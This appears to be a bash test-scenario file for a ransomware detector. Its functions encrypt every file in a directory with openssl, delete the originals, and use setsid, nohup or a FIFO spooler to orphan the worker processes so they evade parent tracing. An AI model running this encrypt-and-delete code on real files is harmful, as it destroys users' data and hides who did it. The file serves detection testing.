# Attackers that let go of their parent: the evidence must find its way to whoever created them, not to pid 1.
# shellcheck shell=bash
# shellcheck disable=SC2016

export KEY=correct-horse-battery
enc() { openssl enc -aes-256-ctr -pbkdf2 -iter 1 -pass env:KEY "$@"; }
lock_list() { while IFS= read -r -d '' f; do enc -in "$f" -out "$f.locked" && rm -f -- "$f"; done < "$1"; }
export -f enc lock_list

lists() { find . -type f -size +0 -print0 | split -t '\0' -n "r/$1" - "$SCRATCH/list."; } # round robin over $1 lists

#@ setsid-daemons needs=openssl,setsid processes=18 limit=25 orphans ci
setsid_daemons() {
    lists 18
    for list in "$SCRATCH"/list.*; do setsid -f bash -c 'lock_list "$0"' "$list"; done
}

#@ orphan-each-file needs=openssl,setsid processes=1 limit=5 orphans
# A new orphan for every single file: fork-per-file and lost parents together.
orphan_each_file() {
    find . -type f -size +0 -print0 | while IFS= read -r -d '' f; do
        setsid -f bash -c 'enc -in "$0" -out "$0.locked" && rm -f -- "$0"' "$f"
        sleep 0.01
    done
}

#@ nohup-then-exit needs=openssl,nohup processes=4 limit=5 orphans
nohup_then_exit() {
    lists 4
    for list in "$SCRATCH"/list.*; do (nohup bash -c 'lock_list "$0"' "$list" >/dev/null 2>&1 &); done
}

#@ spooler-jobs needs=openssl,setsid,mkfifo processes=1 limit=5 orphans
# Like at(1) or a management agent: a service that was there before takes the command and runs it for somebody else.
spooler_jobs_setup() {
    mkfifo "$SCRATCH/queue"
    setsid -f bash -c 'exec 3<>"$SCRATCH/queue"; while read -r -u 3 job; do setsid -f bash -c "$job"; done' >/dev/null 2>&1
}
spooler_jobs() {
    lists 3
    for list in "$SCRATCH"/list.*; do echo "cd '$TREE'; lock_list '$list'" > "$SCRATCH/queue"; sleep 0.2; done
}
